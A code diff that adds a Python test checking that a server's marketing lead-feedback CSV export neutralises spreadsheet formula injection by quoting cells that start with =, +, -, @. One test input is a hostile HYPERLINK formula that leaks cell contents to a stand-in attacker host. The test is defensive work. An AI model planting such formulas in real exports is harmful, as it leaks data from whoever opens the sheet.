@@ -22,7 +22,7 @@ from server.cli import main as server_main
 from server.ingest import ApiKeys
 from sync.engine import SyncEngine
 from tests.server.conftest import PASSWORD, Clock
-from tests.server.test_ingest import Customers, bearer, send
+from tests.server.test_ingest import Customers, bearer, send, write
 
 LEAD = "lead_handed_over"
 
@@ -139,3 +139,54 @@ def test_marketing_routes_take_api_keys_only(http: httpx.Client, auth: AuthServi
     for path in ("/v1/marketing/lead-feedback", "/v1/marketing/suppressions"):
         assert http.get(path, headers=bearer(tokens["access_token"])).status_code == 401
         assert http.get(path).status_code == 401
+
+
+def test_the_feedback_csv_defuses_cells_a_spreadsheet_would_run(
+    http: httpx.Client,
+    auth: AuthService,
+    clock: Clock,
+    server_database_url: str,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    """Campaign names come from marketing's systems, lost reasons from reps: a cell
+    starting with =, +, -, @, a tab or a carriage return gets a quote in front (OWASP)."""
+    customers = Customers(auth)
+    hubspot = ApiKeys(auth.store, auth.clock).add("hubspot")
+    hyperlink = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
+    at = clock().isoformat()
+    body = send(
+        http,
+        hubspot,
+        *(
+            {"event_id": f"lead-{n}", "type": LEAD, "occurred_at": at,
+             "email": "zoe.berg@acme.example", "details": {"campaign": campaign}}
+            for n, campaign in enumerate([hyperlink, "@SUM(1)", "spring-webinar"])
+        ),
+    )  # fmt: skip
+    assert body["accepted"] == 3
+    write(
+        auth,
+        "lead",
+        "north",
+        {"account_id": str(customers.acme), "campaign": "+cold-call", "status": "accepted",
+         "outcome": "lost", "outcome_reason": "-10% was not enough"},
+    )  # fmt: skip
+
+    sheet = http.get("/v1/marketing/lead-feedback.csv", headers=bearer(hubspot))
+    assert sheet.status_code == 200, sheet.text
+    rows = {r["campaign"]: r for r in csv.DictReader(io.StringIO(sheet.text))}
+    assert set(rows) == {f"'{hyperlink}", "'@SUM(1)", "spring-webinar", "'+cold-call"}
+    assert rows["'+cold-call"]["lost_reasons"] == "'-10% was not enough"
+    # Numbers stay numbers: counts and the acceptance rate are not quoted.
+    assert rows["'+cold-call"] | {"campaign": None, "lost_reasons": None} == {
+        "campaign": None, "handed_over": "1", "undecided": "0", "accepted": "1",
+        "rejected": "0", "acceptance_rate": "1.00", "reject_reasons": "", "won": "0",
+        "lost": "1", "no_decision": "0", "lost_reasons": None,
+    }  # fmt: skip
+    assert rows["'@SUM(1)"]["acceptance_rate"] == ""  # undecided: no rate yet
+
+    assert server_main(["--database-url", server_database_url, "report", "leads", "--csv"]) == 0
+    printed = capsys.readouterr().out
+    assert printed.rstrip("\n") == sheet.text.rstrip("\n")  # the CLI prints the same sheet
+    assert "\n\"'=HYPERLINK(" in printed  # quoted by the CSV writer: the cell holds quotes
+    assert "\n'@SUM(1)," in printed
